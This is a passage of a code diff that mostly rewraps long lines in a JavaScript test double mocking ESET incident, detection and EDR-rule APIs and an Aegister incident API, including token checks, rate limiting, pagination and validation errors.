+				access_token: token,
+				refresh_token: refreshToken,
+				token_type: 'Bearer',
+				expires_in: 3600,
+			},
+		};
 	}
 
 	/** Make every token issued so far invalid (as if they had expired). */
@@ -892,13 +1159,19 @@ class ApiDouble {
 	esetApi(request) {
 		const auth = String(request.headers.authorization ?? '');
 		const token = auth.startsWith('Bearer ') ? auth.slice(7) : '';
-		const valid = this.eset.keepOldTokensValid ? this.eset.tokens.includes(token) : token === this.eset.tokens.at(-1);
-		if (!valid) return { status: 401, body: { code: 16, message: 'token has expired or is invalid' } };
+		const valid = this.eset.keepOldTokensValid
+			? this.eset.tokens.includes(token)
+			: token === this.eset.tokens.at(-1);
+		if (!valid)
+			return { status: 401, body: { code: 16, message: 'token has expired or is invalid' } };
 
 		const limit = this.eset.requestsPerSecondLimit;
 		if (limit) {
 			const recent = this.requests.filter(
-				(r) => /^\/eset\/v[12]\//.test(r.path) && r.at > request.at - 1000 && r.headers.authorization === request.headers.authorization,
+				(r) =>
+					/^\/eset\/v[12]\//.test(r.path) &&
+					r.at > request.at - 1000 &&
+					r.headers.authorization === request.headers.authorization,
 			);
 			if (recent.length > limit) {
 				this.eset.tooManyRequestsSent++;
@@ -921,7 +1194,11 @@ class ApiDouble {
 		} else if (this.eset.slowResponses > 0) {
 			this.eset.slowResponses--;
 			const id = randomUUID();
-			this.eset.pending.set(id, { remaining: this.eset.pollsUntilReady - 1, key, collected: false });
+			this.eset.pending.set(id, {
+				remaining: this.eset.pollsUntilReady - 1,
+				key,
+				collected: false,
+			});
 			return { status: 202, headers: { 'response-id': id }, body: [] };
 		}
 		return this.esetResource(request);
@@ -932,16 +1209,22 @@ class ApiDouble {
 		const notFound = { status: 404, body: { code: 5, message: 'incident not found' } };
 		const path = request.rawPath.replace(/^\/eset/, '');
 		const { incidents } = this.eset;
-		const find = (/** @type {string} */ encodedUuid) => incidents.find((i) => i.uuid === decodeURIComponent(encodedUuid));
+		const find = (/** @type {string} */ encodedUuid) =>
+			incidents.find((i) => i.uuid === decodeURIComponent(encodedUuid));
 
 		if (request.method === 'GET' && path === '/v2/incidents') {
 			const matches = compileEsetFilter(request.query.filter ?? '');
-			if (!matches) return { status: 400, body: { code: 3, message: `invalid filter: ${request.query.filter}` } };
+			if (!matches)
+				return {
+					status: 400,
+					body: { code: 3, message: `invalid filter: ${request.query.filter}` },
+				};
 			const matching = incidents.filter(matches);
 			const orderBy = String(request.query.orderBy ?? '').trim();
 			if (orderBy) {
 				const rules = orderBy.split(',').map((rule) => rule.trim().split(/\s+/));
-				const value = (/** @type {any} */ incident, /** @type {string} */ key) => (/Time$/.test(key) ? Date.parse(incident[key]) : incident[key] ?? '');
+				const value = (/** @type {any} */ incident, /** @type {string} */ key) =>
+					/Time$/.test(key) ? Date.parse(incident[key]) : (incident[key] ?? '');
 				matching.sort((a, b) => {
 					for (const [name, direction] of rules) {
 						const key = field(name);
@@ -954,7 +1237,9 @@ class ApiDouble {
 			}
 			const pageSize = Math.min(Number(request.query.pageSize) || 50, 1000);
 			const start = Number(request.query.pageToken || 0);
-			const page = matching.slice(start, start + pageSize).map(({ deviceUuids, detectionUuids, ...rest }) => rest);
+			const page = matching
+				.slice(start, start + pageSize)
+				.map(({ deviceUuids, detectionUuids, ...rest }) => rest);
 			const next = start + pageSize < matching.length ? String(start + pageSize) : '';
 			return { status: 200, body: { incidents: page, nextPageToken: next } };
 		}
@@ -964,9 +1249,11 @@ class ApiDouble {
 			if (!incident) return notFound;
 			if (match[2] === 'close') {
 				incident.status = 'INCIDENT_STATUS_CLOSED';
-				incident.resolveReason = request.body?.closureReason ?? 'INCIDENT_RESOLVE_REASON_UNSPECIFIED';
+				incident.resolveReason =
+					request.body?.closureReason ?? 'INCIDENT_RESOLVE_REASON_UNSPECIFIED';
 			} else {
-				if (incident.status === 'INCIDENT_STATUS_OPEN') return { status: 400, body: { code: 9, message: 'incident is already open' } };
+				if (incident.status === 'INCIDENT_STATUS_OPEN')
+					return { status: 400, body: { code: 9, message: 'incident is already open' } };
 				incident.status = 'INCIDENT_STATUS_OPEN';
 			}
 			return { status: 200, body: {} };
@@ -980,14 +1267,18 @@ class ApiDouble {
 		if (match && request.method === 'POST') {
 			const incident = find(match[1]);
 			if (!incident) return notFound;
-			for (const field of String(request.body?.updateMask ?? '').split(',').filter(Boolean)) {
+			for (const field of String(request.body?.updateMask ?? '')
+				.split(',')
+				.filter(Boolean)) {
 				/** @type {any} */ (incident)[field] = request.body[field] ?? '';
 			}
 			return { status: 200, body: { incident } };
 		}
-		if (path.startsWith('/v2/detections') || path.startsWith('/v1/detections')) return this.esetDetections(request, path);
+		if (path.startsWith('/v2/detections') || path.startsWith('/v1/detections'))
+			return this.esetDetections(request, path);
 		if (path.startsWith('/v2/detection-groups')) return this.esetDetectionGroups(request, path);
-		if (path.startsWith('/v2/edr-rule-exclusions')) return this.esetEdrRuleExclusions(request, path);
+		if (path.startsWith('/v2/edr-rule-exclusions'))
+			return this.esetEdrRuleExclusions(request, path);
 		if (path.startsWith('/v2/edr-rules')) return this.esetEdrRules(request, path);
 		match = path.match(/^\/v2\/incidents\/([^/]+)\/comments(?:\/([^/]+?))?(\/text:update)?$/);
 		if (match) {
@@ -1041,49 +1332,91 @@ class ApiDouble {
 	 */
 	esetDetections(request, path) {
 		const { detections } = this.eset;
-		const invalid = (/** @type {string} */ message) => ({ status: 400, body: { code: 3, message } });
+		const invalid = (/** @type {string} */ message) => ({
+			status: 400,
+			body: { code: 3, message },
+		});
 		const list = (/** @type {any[]} */ listed) => {
 			const pageSize = Math.min(Number(request.query.pageSize) || 50, 1000);
 			const start = Number(request.query.pageToken || 0);
 			const page = listed.slice(start, start + pageSize);
 			const next = start + pageSize < listed.length ? String(start + pageSize) : '';
-			return { status: 200, body: { ...(page.length ? { detections: page } : {}), nextPageToken: next } };
+			return {
+				status: 200,
+				body: { ...(page.length ? { detections: page } : {}), nextPageToken: next },
+			};
 		};
 		if (request.method === 'GET' && (path === '/v1/detections' || path === '/v2/detections')) {
 			const { startTime, endTime, cloudOfficeTenantUuid: tenant, deviceUuid } = request.query;
 			const rfc3339 = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}(:\d{2}(\.\d+)?)?(Z|[+-]\d{2}:\d{2})$/;
 			for (const [name, value] of Object.entries({ startTime, endTime })) {
-				if (value !== undefined && !rfc3339.test(value)) return invalid(`invalid ${name}: ${value}`);
+				if (value !== undefined && !rfc3339.test(value))
+					return invalid(`invalid ${name}: ${value}`);
 			}
 			const inWindow = (/** @type {any} */ d) =>
-				(startTime === undefined || Date.parse(d.occurTime) >= Date.parse(startTime)) && (endTime === undefined || Date.parse(d.occurTime) < Date.parse(endTime));
+				(startTime === undefined || Date.parse(d.occurTime) >= Date.parse(startTime)) &&
+				(endTime === undefined || Date.parse(d.occurTime) < Date.parse(endTime));
 			if (path === '/v1/detections') {
-				const unknown = Object.keys(request.query).filter((name) => !['startTime', 'endTime', 'deviceUuid', 'pageSize', 'pageToken'].includes(name));
+				const unknown = Object.keys(request.query).filter(
+					(name) => !['startTime', 'endTime', 'deviceUuid', 'pageSize', 'pageToken'].includes(name),
+				);
 				if (unknown.length) return invalid(`unknown parameter: ${unknown.join(', ')}`);
-				return list(detections.filter((d) => !d.cloudOfficeTenantUuid && inWindow(d) && (!deviceUuid || d.device?.uuid === deviceUuid)).map(v1Detection));
+				return list(
+					detections
+						.filter(
+							(d) =>
+								!d.cloudOfficeTenantUuid &&
+								inWindow(d) &&
+								(!deviceUuid || d.device?.uuid === deviceUuid),
+						)
+						.map(v1Detection),
+				);
 			}
-			if (!tenant) return { status: 501, body: { code: 12, message: 'not implemented: this tenant has no ESET Cloud Office Security detections' } };
+			if (!tenant)
+				return {
+					status: 501,
+					body: {
+						code: 12,
+						message: 'not implemented: this tenant has no ESET Cloud Office Security detections',
+					},
+				};
 			return list(detections.filter((d) => d.cloudOfficeTenantUuid === tenant && inWindow(d)));
 		}
-		if (request.method === 'POST' && path === '/v2/detections:batchGet' && this.eset.batchGetUnsupported) {
+		if (
+			request.method === 'POST' &&
+			path === '/v2/detections:batchGet' &&
+			this.eset.batchGetUnsupported
+		) {
 			return { status: 501, body: { code: 12, message: 'not implemented' } };
 		}
 		if (request.method === 'POST' && path === '/v2/detections:batchGet') {
 			const uuids = request.body?.detectionUuids;
-			if (!Array.isArray(uuids) || !uuids.every((u) => typeof u === 'string')) return invalid('detectionUuids must be a list of strings');
-			if (uuids.length > 1000) return { status: 400, body: { code: 11, message: `batch of ${uuids.length} detections exceeds the limit of 1000` } };
-			if (uuids.length > 100) return { status: 500, body: { code: 13, message: 'internal error: batch too large' } };
+			if (!Array.isArray(uuids) || !uuids.every((u) => typeof u === 'string'))
+				return invalid('detectionUuids must be a list of strings');
+			if (uuids.length > 1000)
+				return {
+					status: 400,
+					body: {
+						code: 11,
+						message: `batch of ${uuids.length} detections exceeds the limit of 1000`,
+					},
+				};
+			if (uuids.length > 100)
+				return { status: 500, body: { code: 13, message: 'internal error: batch too large' } };
 			const found = uuids.map((uuid) => detections.find((d) => d.uuid === uuid));
 			const missing = uuids.filter((_, index) => !found[index]);
-			if (missing.length) return { status: 404, body: { code: 5, message: `detection not found: ${missing[0]}` } };
+			if (missing.length)
+				return { status: 404, body: { code: 5, message: `detection not found: ${missing[0]}` } };
 			return { status: 200, body: found.length ? { detections: found } : {} };
 		}
 		const match = path.match(/^\/v2\/detections\/([^/:]+)(:resolve)?$/);
 		const detection = match && detections.find((d) => d.uuid === decodeURIComponent(match[1]));
-		if (match && !detection) return { status: 404, body: { code: 5, message: 'detection not found' } };
+		if (match && !detection)
+			return { status: 404, body: { code: 5, message: 'detection not found' } };
 		if (match && !match[2] && request.method === 'GET') return { status: 200, body: { detection } };
 		if (match && match[2] && request.method === 'POST') {
-			if (request.body === undefined || typeof request.body !== 'object') return invalid('the body must be a JSON object');
+			if (request.body === undefined || typeof request.body !== 'object')
+				return invalid('the body must be a JSON object');
 			detection.resolved = true;
 			if (typeof request.body.note === 'string') detection.note = request.body.note;
 			return { status: 200, body: {} };
@@ -1104,12 +1437,22 @@ class ApiDouble {
 	 */
 	esetDetectionGroups(request, path) {
 		const groups = this.eset.detectionGroups;
-		const invalid = (/** @type {string} */ message) => ({ status: 400, body: { code: 3, message } });
+		const invalid = (/** @type {string} */ message) => ({
+			status: 400,
+			body: { code: 3, message },
+		});
 		if (request.method === 'GET' && path === '/v2/detection-groups') {
-			const { startTime, endTime, deviceUuid, cloudOfficeTenantUuid: tenant, pageToken } = request.query;
+			const {
+				startTime,
+				endTime,
+				deviceUuid,
+				cloudOfficeTenantUuid: tenant,
+				pageToken,
+			} = request.query;
 			const rfc3339 = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}(:\d{2}(\.\d+)?)?(Z|[+-]\d{2}:\d{2})$/;
 			for (const [name, value] of Object.entries({ startTime, endTime })) {
-				if (value !== undefined && !rfc3339.test(value)) return invalid(`invalid ${name}: ${value}`);
+				if (value !== undefined && !rfc3339.test(value))
+					return invalid(`invalid ${name}: ${value}`);
 			}
 			const matching = groups.filter(
 				(g) =>
@@ -1122,10 +1465,14 @@ class ApiDouble {
 			const start = Number(pageToken || 0);
 			const page = matching.slice(start, start + pageSize);
 			const next = start + pageSize < matching.length ? String(start + pageSize) : '';
-			return { status: 200, body: { ...(page.length ? { detectionGroups: page } : {}), nextPageToken: next } };
+			return {
+				status: 200,
+				body: { ...(page.length ? { detectionGroups: page } : {}), nextPageToken: next },
+			};
 		}
 		if (request.method === 'POST' && path === '/v2/detection-groups:search') {
-			if (!request.body || typeof request.body !== 'object' || Array.isArray(request.body)) return invalid('the body must be a JSON object');
+			if (!request.body || typeof request.body !== 'object' || Array.isArray(request.body))
+				return invalid('the body must be a JSON object');
 			const { filter = '' } = request.body;
 			if (typeof filter !== 'string') return invalid('filter must be a string');
 			const compiled = compileSearchFilter(filter);
@@ -1135,14 +1482,19 @@ class ApiDouble {
 		}
 		const match = path.match(/^\/v2\/detection-groups\/([^/:]+)(:resolve)?$/);
 		const group = match && groups.find((g) => g.uuid === decodeURIComponent(match[1]));
-		if (match && !group) return { status: 404, body: { code: 5, message: 'detection group not found' } };
-		if (match && !match[2] && request.method === 'GET') return { status: 200, body: { detectionGroup: group } };
+		if (match && !group)
+			return { status: 404, body: { code: 5, message: 'detection group not found' } };
+		if (match && !match[2] && request.method === 'GET')
+			return { status: 200, body: { detectionGroup: group } };
 		if (match && match[2] && request.method === 'POST') {
-			if (!request.body || typeof request.body !== 'object') return invalid('the body must be a JSON object');
+			if (!request.body || typeof request.body !== 'object')
+				return invalid('the body must be a JSON object');
 			group.resolved = true;
 			group.resolvedCount = group.groupSize;
 			if (typeof request.body.note === 'string') group.note = request.body.note;
-			for (const detection of this.eset.detections.filter((d) => group.detectionOccurenceUuids.includes(d.uuid))) {
+			for (const detection of this.eset.detections.filter((d) =>
+				group.detectionOccurenceUuids.includes(d.uuid),
+			)) {
 				detection.resolved = true;
 				if (typeof request.body.note === 'string') detection.note = request.body.note;
 			}
@@ -1160,7 +1512,10 @@ class ApiDouble {
 	esetEdrList(request, all, property) {
 		const { includeTotalSize, pageToken } = request.query;
 		if (includeTotalSize !== undefined && !['true', 'false'].includes(includeTotalSize)) {
-			return { status: 400, body: { code: 3, message: `invalid includeTotalSize: ${includeTotalSize}` } };
+			return {
+				status: 400,
+				body: { code: 3, message: `invalid includeTotalSize: ${includeTotalSize}` },
+			};
 		}
 		const pageSize = Math.min(Number(request.query.pageSize) || 50, 1000);
 		const start = Number(pageToken || 0);
@@ -1168,7 +1523,11 @@ class ApiDouble {
 		const next = start + pageSize < all.length ? String(start + pageSize) : '';
 		return {
 			status: 200,
-			body: { ...(page.length ? { [property]: page } : {}), nextPageToken: next, ...(includeTotalSize === 'true' ? { totalSize: String(all.length) } : {}) },
+			body: {
+				...(page.length ? { [property]: page } : {}),
+				nextPageToken: next,
+				...(includeTotalSize === 'true' ? { totalSize: String(all.length) } : {}),
+			},
 		};
 	}
 
@@ -1182,13 +1541,28 @@ class ApiDouble {
 	 */
 	esetEdrRules(request, path) {
 		const rules = this.eset.edrRules;
-		const invalid = (/** @type {string} */ message) => ({ status: 400, body: { code: 3, message } });
-		const isObject = (/** @type {any} */ value) => !!value && typeof value === 'object' && !Array.isArray(value);
+		const invalid = (/** @type {string} */ message) => ({
+			status: 400,
+			body: { code: 3, message },
+		});
+		const isObject = (/** @type {any} */ value) =>
+			!!value && typeof value === 'object' && !Array.isArray(value);
 		if (request.method === 'GET' && path === '/v2/edr-rules') {
 			const { severityLevel } = request.query;
-			const levels = ['SEVERITY_LEVEL_UNSPECIFIED', 'SEVERITY_LEVEL_DIAGNOSTIC', 'SEVERITY_LEVEL_INFORMATIONAL', 'SEVERITY_LEVEL_LOW', 'SEVERITY_LEVEL_MEDIUM', 'SEVERITY_LEVEL_HIGH'];
-			if (severityLevel !== undefined && !levels.includes(severityLevel)) return invalid(`invalid severityLevel: ${severityLevel}`);
-			const matching = !severityLevel || severityLevel === 'SEVERITY_LEVEL_UNSPECIFIED' ? rules : rules.filter((r) => r.severityLevel === severityLevel);
+			const levels = [
+				'SEVERITY_LEVEL_UNSPECIFIED',
+				'SEVERITY_LEVEL_DIAGNOSTIC',
+				'SEVERITY_LEVEL_INFORMATIONAL',
+				'SEVERITY_LEVEL_LOW',
+				'SEVERITY_LEVEL_MEDIUM',
+				'SEVERITY_LEVEL_HIGH',
+			];
+			if (severityLevel !== undefined && !levels.includes(severityLevel))
+				return invalid(`invalid severityLevel: ${severityLevel}`);
+			const matching =
+				!severityLevel || severityLevel === 'SEVERITY_LEVEL_UNSPECIFIED'
+					? rules
+					: rules.filter((r) => r.severityLevel === severityLevel);
 			return this.esetEdrList(request, matching, 'rules');
 		}
 		if (request.method === 'POST' && path === '/v2/edr-rules') {
@@ -1196,7 +1570,8 @@ class ApiDouble {
 			if (!isObject(rule)) return invalid('rule is required');
 			const problem = xmlDefinitionProblem(rule.xmlDefinition) ?? scopesProblem(rule.scopes);
 			if (problem) return invalid(problem);
-			if (rule.enabled !== undefined && typeof rule.enabled !== 'boolean') return invalid('enabled must be a boolean');
+			if (rule.enabled !== undefined && typeof rule.enabled !== 'boolean')
+				return invalid('enabled must be a boolean');
 			const created = {
 				uuid: randomUUID(),
 				displayName: nameInXml(rule.xmlDefinition),
@@ -1224,7 +1599,11 @@ class ApiDouble {
 			if (match[2] === 'updateDefinition') {
 				const problem = xmlDefinitionProblem(request.body.xmlDefinition);
 				if (problem) return invalid(problem);
-				Object.assign(rule, { xmlDefinition: request.body.xmlDefinition, displayName: nameInXml(request.body.xmlDefinition), editorUuid: 'api-user' });
+				Object.assign(rule, {
+					xmlDefinition: request.body.xmlDefinition,
+					displayName: nameInXml(request.body.xmlDefinition),
+					editorUuid: 'api-user',
+				});
 				return { status: 200, body: { rule } };
 			}
 			rule.enabled = match[2] === 'enable';
@@ -1243,17 +1622,28 @@ class ApiDouble {
 	 */
 	esetEdrRuleExclusions(request, path) {
 		const exclusions = this.eset.edrRuleExclusions;
-		const invalid = (/** @type {string} */ message) => ({ status: 400, body: { code: 3, message } });
-		const isObject = (/** @type {any} */ value) => !!value && typeof value === 'object' && !Array.isArray(value);
-		if (request.method === 'GET' && path === '/v2/edr-rule-exclusions') return this.esetEdrList(request, exclusions, 'exclusions');
+		const invalid = (/** @type {string} */ message) => ({
+			status: 400,
+			body: { code: 3, message },
+		});
+		const isObject = (/** @type {any} */ value) =>
+			!!value && typeof value === 'object' && !Array.isArray(value);
+		if (request.method === 'GET' && path === '/v2/edr-rule-exclusions')
+			return this.esetEdrList(request, exclusions, 'exclusions');
 		if (request.method === 'POST' && path === '/v2/edr-rule-exclusions') {
 			const exclusion = request.body?.exclusion;
 			if (!isObject(exclusion)) return invalid('exclusion is required');
-			const problem = xmlDefinitionProblem(exclusion.xmlDefinition) ?? scopesProblem(exclusion.scopes);
+			const problem =
+				xmlDefinitionProblem(exclusion.xmlDefinition) ?? scopesProblem(exclusion.scopes);
 			if (problem) return invalid(problem);
-			if (exclusion.note !== undefined && (typeof exclusion.note !== 'string' || exclusion.note.length > 2048)) return invalid('note must be at most 2048 characters');
+			if (
+				exclusion.note !== undefined &&
+				(typeof exclusion.note !== 'string' || exclusion.note.length > 2048)
+			)
+				return invalid('note must be at most 2048 characters');
 			const ruleUuids = exclusion.ruleUuids ?? [];
-			if (!Array.isArray(ruleUuids) || !ruleUuids.every((uuid) => typeof uuid === 'string')) return invalid('ruleUuids must be a list of strings');
+			if (!Array.isArray(ruleUuids) || !ruleUuids.every((uuid) => typeof uuid === 'string'))
+				return invalid('ruleUuids must be a list of strings');
 			const unknown = ruleUuids.find((uuid) => !this.eset.edrRules.some((r) => r.uuid === uuid));
 			if (unknown !== undefined) return invalid(`rule not found: ${unknown}`);
 			const created = {
@@ -1272,7 +1662,8 @@ class ApiDouble {
 		}
 		const match = path.match(/^\/v2\/edr-rule-exclusions\/([^/:]+)(:updateDefinition)?$/);
 		const exclusion = match && exclusions.find((e) => e.uuid === decodeURIComponent(match[1]));
-		if (match && !exclusion) return { status: 404, body: { code: 5, message: 'exclusion not found' } };
+		if (match && !exclusion)
+			return { status: 404, body: { code: 5, message: 'exclusion not found' } };
 		if (match && !match[2] && request.method === 'GET') return { status: 200, body: { exclusion } };
 		if (match && !match[2] && request.method === 'DELETE') {
 			exclusions.splice(exclusions.indexOf(exclusion), 1);
@@ -1282,7 +1673,11 @@ class ApiDouble {
 			if (!isObject(request.body)) return invalid('the body must be a JSON object');
 			const problem = xmlDefinitionProblem(request.body.xmlDefinition);
 			if (problem) return invalid(problem);
-			Object.assign(exclusion, { xmlDefinition: request.body.xmlDefinition, displayName: nameInXml(request.body.xmlDefinition), editorUuid: 'api-user' });
+			Object.assign(exclusion, {
+				xmlDefinition: request.body.xmlDefinition,
+				displayName: nameInXml(request.body.xmlDefinition),
+				editorUuid: 'api-user',
+			});
 			return { status: 200, body: { exclusion } };
 		}
 		return { status: 404, body: { code: 5, message: 'no such ESET route in the API double' } };
@@ -1292,9 +1687,19 @@ class ApiDouble {
 
 	/** @param {RecordedRequest} request @returns {ScriptedResponse} */
 	aegisterApi(request) {
-		const envelope = (/** @type {any} */ data, extra = {}) => ({ status: 200, body: { error: 0, messages: [], data, ...extra } });
-		const failure = (/** @type {number} */ status, /** @type {string[]} */ messages, /** @type {any} */ data = {}) => ({ status, body: { error: 1, messages, data } });
-		if (request.headers['x-aegister-token'] !== AEGISTER_TOKEN || 'X-Aegister-Token' in request.query) {
+		const envelope = (/** @type {any} */ data, extra = {}) => ({
+			status: 200,
+			body: { error: 0, messages: [], data, ...extra },
+		});
+		const failure = (
+			/** @type {number} */ status,
+			/** @type {string[]} */ messages,
+			/** @type {any} */ data = {},
+		) => ({ status, body: { error: 1, messages, data } });
+		if (
+			request.headers['x-aegister-token'] !== AEGISTER_TOKEN ||
+			'X-Aegister-Token' in request.query
+		) {
 			return failure(401, ['Invalid token.']);
 		}
 		const path = request.path.replace(/^\/aegister\/api\/v1/, '');
@@ -1302,38 +1707,78 @@ class ApiDouble {
 			const limit = Number(request.query.limit ?? 50);
 			const offset = Number(request.query.offset ?? 0);
 			const name = String(request.query.name ?? '').toLowerCase();
-			const matching = this.aegister.organizations.filter((o) => o.name.toLowerCase().includes(name));
+			const matching = this.aegister.organizations.filter((o) =>
+				o.name.toLowerCase().includes(name),
+			);
 			return envelope(matching.slice(offset, offset + limit), { total: matching.length });
 		}
-		let match = request.rawPath.replace(/^\/aegister\/api\/v1/, '').match(/^\/V-Ciso\/incidents\/([^/]+)\/threat-intel$/);
+		let match = request.rawPath
+			.replace(/^\/aegister\/api\/v1/, '')
+			.match(/^\/V-Ciso\/incidents\/([^/]+)\/threat-intel$/);
 		if (match && request.method === 'POST') {
 			const indicators = request.body?.indicators;
 			if (!Array.isArray(indicators) || indicators.length === 0) {
-				return failure(400, ['Validation failed.'], { errors: { indicators: ['This field is required.'] } });
+				return failure(400, ['Validation failed.'], {
+					errors: { indicators: ['This field is required.'] },
+				});
 			}
-			const data = indicators.map((/** @type {any} */ i) => ({ type: i.type, value: i.value, threat_intel: /** @type {any} */ (THREAT_INTEL)[i.type] ?? null }));
+			const data = indicators.map((/** @type {any} */ i) => ({
+				type: i.type,
+				value: i.value,
+				threat_intel: /** @type {any} */ (THREAT_INTEL)[i.type] ?? null,
+			}));
 			return envelope(data, { total: data.length });
 		}
-		match = request.rawPath.replace(/^\/aegister\/api\/v1/, '').match(/^\/V-Ciso\/incidents\/([^/]+)\/([^/]+)$/);
+		match = request.rawPath
+			.replace(/^\/aegister\/api\/v1/, '')
+			.match(/^\/V-Ciso\/incidents\/([^/]+)\/([^/]+)$/);
 		if (match && request.method === 'PATCH') {
 			const incident = this.aegister.incidents.get(`${match[1]}/${match[2]}`);
 			if (!incident) return failure(404, ['Incident not found.']);
-			const allowed = ['title', 'reference_code', 'classification', 'metadata', 'status', 'subject_type', '24h_notification', '72h_notification', 'full_report'];
+			const allowed = [
+				'title',
+				'reference_code',
+				'classification',
+				'metadata',
+				'status',
+				'subject_type',
+				'24h_notification',
+				'72h_notification',
+				'full_report',
+			];
 			const unknown = Object.keys(request.body ?? {}).filter((k) => !allowed.includes(k));
-			if (unknown.length) return failure(400, ['Validation failed.'], { errors: Object.fromEntries(unknown.map((k) => [k, ['Unknown field.']])) });
+			if (unknown.length)
+				return failure(400, ['Validation failed.'], {
+					errors: Object.fromEntries(unknown.map((k) => [k, ['Unknown field.']])),
+				});
 			if (request.body.status && !['draft', 'submitted', 'closed'].includes(request.body.status)) {
-				return failure(400, ['Validation failed.'], { errors: { status: [`"${request.body.status}" is not a valid choice.`] } });
+				return failure(400, ['Validation failed.'], {
+					errors: { status: [`"${request.body.status}" is not a valid choice.`] },
+				});
 			}
 			const { subject_type: subjectType, ...fields } = request.body;
 			Object.assign(incident, fields, { updated_at: new Date().toISOString() });
-			if (subjectType !== undefined) /** @type {any} */ (incident).metadata = { ...(/** @type {any} */ (incident).metadata), subject_type: subjectType };
+			if (subjectType !== undefined)
+				/** @type {any} */ (incident).metadata = {
+					.../** @type {any} */ (incident).metadata,
+					subject_type: subjectType,
+				};
 			return envelope(incident);
 		}
 		return failure(404, ['Not found.']);
 	}
 }
 
-module.exports = { ApiDouble, ESET_USER, ESET_PASSWORD, AEGISTER_TOKEN, compileEsetFilter, compileSearchFilter, xmlDefinitionProblem, v1Detection };
+module.exports = {
+	ApiDouble,
+	ESET_USER,
+	ESET_PASSWORD,
+	AEGISTER_TOKEN,
+	compileEsetFilter,
+	compileSearchFilter,
+	xmlDefinitionProblem,
+	v1Detection,
+};
 
 if (require.main === module) {
 	const double = new ApiDouble();
